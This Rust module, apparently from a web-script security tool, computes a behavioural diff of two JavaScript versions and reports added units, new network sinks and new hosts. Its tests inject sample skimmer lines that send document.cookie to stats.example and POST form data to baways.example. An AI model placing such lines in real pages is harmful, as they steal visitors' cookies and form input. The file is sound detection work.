//! Behavioural diff of two versions of a script.
//!
//! Equal normalised hashes mean no behaviour changed: reformatting, renamed locals, new
//! comments, other literals and re-minification are all silent. Otherwise the two multisets
//! of unit hashes are compared. Units only in the new version are *added*; among them, those
//! that still contain known code (a library function that gained three lines) are *modified
//! containers* and are not listed themselves, while the outermost wholly new units are: the
//! appended skimmer function, the injected statement. Removed units are found the same way
//! in the other direction. Hosts and APIs are compared as sets.

use std::collections::HashMap;

use serde::Serialize;

use super::fingerprint::short_hex;
use super::normalize::UnitKind;
use super::signals::{self, SINKS};
use super::{excerpt, line_of, Analysis, Family, Parsed};

/// Units smaller than this (in normalised tokens) are too common (`return a;`) to count as
/// evidence that a new unit is an old one modified.
const MIN_EVIDENCE_TOKENS: usize = 12;

/// Longest excerpt of an added or removed unit, in characters.
pub const EXCERPT_CHARS: usize = 160;

/// Most added (or removed) units listed; the counts stay exact.
pub const MAX_LISTED: usize = 50;

/// What `parapet scripts diff` prints.
#[derive(Debug, Clone, Serialize)]
pub struct ScriptDiff {
    /// The old file as given.
    pub old: String,
    /// The new file as given.
    pub new: String,
    /// Whether behaviour changed: normalised hashes differ (or, when a side did not parse,
    /// raw hashes differ).
    pub behaviour_changed: bool,
    /// Both sides parsed, so the comparison is by behaviour, not by bytes.
    pub comparable: bool,
    /// Why a side did not parse.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub errors: Vec<String>,
    /// Normalised hash of the old version.
    pub old_hash: Option<String>,
    /// Normalised hash of the new version.
    pub new_hash: Option<String>,
    /// Families of both sides.
    pub old_family: Option<Family>,
    /// Families of both sides.
    pub new_family: Option<Family>,
    /// Every unit hash only in the new version, containers included.
    pub added_units: usize,
    /// Every unit hash only in the old version, containers included.
    pub removed_units: usize,
    /// The outermost wholly new units (at most [`MAX_LISTED`]).
    pub added: Vec<Change>,
    /// The outermost wholly removed units (at most [`MAX_LISTED`]).
    pub removed: Vec<Change>,
    /// Network sinks the new version uses and the old did not.
    pub new_sinks: Vec<String>,
    /// Notable APIs the new version uses and the old did not.
    pub new_apis: Vec<String>,
    /// Notable APIs the old version used and the new does not.
    pub removed_apis: Vec<String>,
    /// URL hosts the new version names and the old did not.
    pub new_hosts: Vec<String>,
    /// URL hosts the old version named and the new does not.
    pub removed_hosts: Vec<String>,
}

/// One added or removed unit.
#[derive(Debug, Clone, Serialize)]
pub struct Change {
    /// Function or statement.
    pub kind: UnitKind,
    /// 1-based line in its version.
    pub line: usize,
    /// Its unit hash.
    pub hash: String,
    /// The start of its source, on one line.
    pub excerpt: String,
    /// Notable APIs inside.
    pub apis: Vec<String>,
    /// URL hosts inside.
    pub hosts: Vec<String>,
}

impl ScriptDiff {
    /// Compares two analysed versions.
    pub fn between(old_name: &str, old: &Analysis<'_>, new_name: &str, new: &Analysis<'_>) -> Self {
        let mut d = ScriptDiff {
            old: old_name.to_owned(),
            new: new_name.to_owned(),
            behaviour_changed: old.sha256 != new.sha256,
            comparable: false,
            errors: Vec::new(),
            old_hash: None,
            new_hash: None,
            old_family: old.family.clone(),
            new_family: new.family.clone(),
            added_units: 0,
            removed_units: 0,
            added: Vec::new(),
            removed: Vec::new(),
            new_sinks: Vec::new(),
            new_apis: Vec::new(),
            removed_apis: Vec::new(),
            new_hosts: Vec::new(),
            removed_hosts: Vec::new(),
        };
        for (name, a) in [(old_name, old), (new_name, new)] {
            if let Err(e) = &a.outcome {
                d.errors.push(format!("{name}: {e}"));
            }
        }
        let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
            return d;
        };
        d.comparable = true;
        d.old_hash = Some(po.normalized_hash.clone());
        d.new_hash = Some(pn.normalized_hash.clone());
        d.behaviour_changed = po.normalized_hash != pn.normalized_hash;
        if !d.behaviour_changed {
            return d;
        }
        let (added, added_count) = only_in(pn, po, new.source);
        let (removed, removed_count) = only_in(po, pn, old.source);
        d.added = added;
        d.removed = removed;
        d.added_units = added_count;
        d.removed_units = removed_count;
        let (old_apis, new_apis) = (po.apis(), pn.apis());
        d.new_apis = minus(&new_apis, &old_apis);
        d.removed_apis = minus(&old_apis, &new_apis);
        d.new_sinks = d
            .new_apis
            .iter()
            .filter(|a| signals::name_signals(a) & SINKS != 0)
            .cloned()
            .collect();
        let (old_hosts, new_hosts) = (po.hosts(), pn.hosts());
        d.new_hosts = minus(&new_hosts, &old_hosts);
        d.removed_hosts = minus(&old_hosts, &new_hosts);
        d
    }

    /// A short human-readable report.
    pub fn to_text(&self) -> String {
        use std::fmt::Write as _;
        let mut s = String::new();
        let verdict = if self.behaviour_changed {
            "behaviour changed"
        } else {
            "no behaviour change"
        };
        let _ = writeln!(s, "{} -> {}: {verdict}", self.old, self.new);
        for e in &self.errors {
            let _ = writeln!(s, "  not parsed: {e}");
        }
        if !self.behaviour_changed {
            return s;
        }
        let _ = writeln!(
            s,
            "  units: {} added, {} removed",
            self.added_units, self.removed_units
        );
        for (label, list) in [("+", &self.added), ("-", &self.removed)] {
            for c in list {
                let kind = match c.kind {
                    UnitKind::Function => "function",
                    UnitKind::Statement => "statement",
                };
                let _ = writeln!(s, "  {label} {kind} at line {}: {}", c.line, c.excerpt);
            }
        }
        for (label, list) in [
            ("new sinks", &self.new_sinks),
            ("new APIs", &self.new_apis),
            ("new hosts", &self.new_hosts),
            ("removed hosts", &self.removed_hosts),
        ] {
            if !list.is_empty() {
                let _ = writeln!(s, "  {label}: {}", list.join(", "));
            }
        }
        s
    }
}

/// Which units of `a` the unit-hash multiset of `b` lacks: the listed outermost wholly new
/// ones, and the count of all.
pub(crate) fn only_in(a: &Parsed, b: &Parsed, source: &str) -> (Vec<Change>, usize) {
    let flags = new_units(a, b);
    let mut listed = Vec::new();
    let mut count = 0;
    for (i, u) in a.norm.units.iter().enumerate() {
        let f = flags[i];
        if !f.new {
            continue;
        }
        count += 1;
        if !f.reported {
            continue;
        }
        if listed.len() < MAX_LISTED {
            let text = source
                .get(u.span.start as usize..u.span.end as usize)
                .unwrap_or_default();
            listed.push(Change {
                kind: u.kind,
                line: line_of(source, u.span.start),
                hash: short_hex(a.unit_hashes[i]),
                excerpt: excerpt(text, EXCERPT_CHARS),
                apis: u.apis.iter().map(|&x| a.norm.atom(x).to_owned()).collect(),
                hosts: u.hosts.iter().map(|&x| a.norm.atom(x).to_owned()).collect(),
            });
        }
    }
    (listed, count)
}

#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct UnitFlags {
    /// The unit's hash is not in the other version (as a multiset).
    pub new: bool,
    /// It still contains a sizeable known unit: old code, modified.
    pub has_old_inside: bool,
    /// Outermost wholly new unit.
    pub reported: bool,
}

/// Marks every unit of `a` against the multiset of `b`.
pub(crate) fn new_units(a: &Parsed, b: &Parsed) -> Vec<UnitFlags> {
    let mut available: HashMap<u64, usize> = HashMap::new();
    for h in &b.unit_hashes {
        *available.entry(*h).or_default() += 1;
    }
    let mut flags: Vec<UnitFlags> = a
        .unit_hashes
        .iter()
        .map(|h| {
            let new = match available.get_mut(h) {
                Some(n) if *n > 0 => {
                    *n -= 1;
                    false
                }
                _ => true,
            };
            UnitFlags {
                new,
                ..UnitFlags::default()
            }
        })
        .collect();
    // Units are in pre-order (a parent before its children): walk backwards to lift
    // "contains old code" to the parents.
    for i in (0..a.norm.units.len()).rev() {
        let u = &a.norm.units[i];
        let evidence =
            (!flags[i].new && u.end - u.start >= MIN_EVIDENCE_TOKENS) || flags[i].has_old_inside;
        if let Some(p) = u.parent {
            if evidence {
                flags[p].has_old_inside = true;
            }
        }
    }
    for i in 0..a.norm.units.len() {
        let f = flags[i];
        let parent_covers = a.norm.units[i]
            .parent
            .is_some_and(|p| flags[p].new && !flags[p].has_old_inside);
        flags[i].reported = f.new && !f.has_old_inside && !parent_covers;
    }
    flags
}

/// The innermost units of `new` whose hashes `old` lacks (new units with no new unit inside
/// them), at most `max`, with excerpts: where two versions really differ, for telling why a
/// rewrite was judged a behaviour change.
pub fn innermost_added(old: &Analysis<'_>, new: &Analysis<'_>, max: usize) -> Vec<Change> {
    let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
        return Vec::new();
    };
    let flags = new_units(pn, po);
    let units = &pn.norm.units;
    let mut has_new_child = vec![false; units.len()];
    for (i, u) in units.iter().enumerate() {
        if let Some(p) = u.parent.filter(|_| flags[i].new) {
            has_new_child[p] = true;
        }
    }
    units
        .iter()
        .enumerate()
        .filter(|&(i, _)| flags[i].new && !has_new_child[i])
        .take(max)
        .map(|(i, u)| {
            let text = new
                .source
                .get(u.span.start as usize..u.span.end as usize)
                .unwrap_or_default();
            Change {
                kind: u.kind,
                line: line_of(new.source, u.span.start),
                hash: short_hex(pn.unit_hashes[i]),
                excerpt: excerpt(text, EXCERPT_CHARS),
                apis: u.apis.iter().map(|&x| pn.norm.atom(x).to_owned()).collect(),
                hosts: u
                    .hosts
                    .iter()
                    .map(|&x| pn.norm.atom(x).to_owned())
                    .collect(),
            }
        })
        .collect()
}

fn minus(a: &[String], b: &[String]) -> Vec<String> {
    a.iter().filter(|x| !b.contains(x)).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::super::analyse;
    use super::*;

    const LIB: &str = r#"
        (function (root) {
            function each(list, fn) { for (var i = 0; i < list.length; i++) { fn(list[i], i); } }
            function map(list, fn) { var out = []; each(list, function (x, i) { out.push(fn(x, i)); }); return out; }
            function ready(fn) { if (document.readyState !== "loading") { fn(); } else { document.addEventListener("DOMContentLoaded", fn); } }
            root.lib = { each: each, map: map, ready: ready };
        })(window);
    "#;

    #[test]
    fn cosmetic_change_is_not_behaviour() {
        let minified = "!function(n){function e(n,e){for(var t=0;t<n.length;t++)e(n[t],t)}n.lib={each:e,map:function(n,t){var o=[];return e(n,function(n,e){o.push(t(n,e))}),o},ready:function(n){\"loading\"!==document.readyState?n():document.addEventListener(\"DOMContentLoaded\",n)}}}(window);";
        let (a, b) = (analyse(LIB), analyse(minified));
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(d.comparable);
        // Inlining functions into an object literal is a real restructuring, which a
        // minifier may do; the diff must at least not invent hosts or sinks.
        assert!(d.new_hosts.is_empty() && d.new_sinks.is_empty(), "{d:?}");
        let renamed = LIB.replace("list", "arr").replace("out", "acc");
        let d = ScriptDiff::between("a.js", &a, "c.js", &analyse(&renamed));
        assert!(!d.behaviour_changed, "{}", d.to_text());
        assert!(d.added.is_empty() && d.removed.is_empty());
    }

    #[test]
    fn injected_code_inside_a_function_is_listed_alone() {
        let injected = LIB.replace(
            "root.lib = {",
            "var img = new Image(); img.src = \"https://stats.example/c?d=\" + btoa(document.cookie);\n root.lib = {",
        );
        let (a, b) = (analyse(LIB), analyse(&injected));
        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
        assert!(d.behaviour_changed);
        assert_eq!(d.new_hosts, vec!["stats.example".to_owned()]);
        assert!(
            d.new_sinks.contains(&"Image".to_owned()),
            "{:?}",
            d.new_sinks
        );
        // `var img = new Image(); img.src = ...` is one statement once `img` is inlined.
        assert_eq!(d.added.len(), 1, "the injected statement: {:#?}", d.added);
        assert_eq!(d.added[0].kind, UnitKind::Statement);
        assert!(d.added[0].excerpt.contains("stats.example"));
        assert!(
            d.added[0].apis.contains(&"Image".to_owned()),
            "{:?}",
            d.added[0].apis
        );
        assert!(d.removed.is_empty(), "{:#?}", d.removed);
    }

    #[test]
    fn an_appended_function_is_listed_with_its_host() {
        let appended = format!(
            "{LIB}\nwindow.onload = function () {{ var f = document.forms[0]; fetch(\"https://baways.example/api\", {{ method: \"POST\", body: new FormData(f) }}); }};"
        );
        let d = ScriptDiff::between("a.js", &analyse(LIB), "b.js", &analyse(&appended));
        assert!(d.behaviour_changed);
        assert_eq!(d.added.len(), 1, "{:#?}", d.added);
        assert_eq!(d.added[0].hosts, vec!["baways.example".to_owned()]);
        assert!(d.new_sinks.contains(&"fetch".to_owned()));
        assert!(d.to_text().contains("baways.example"));
    }
}
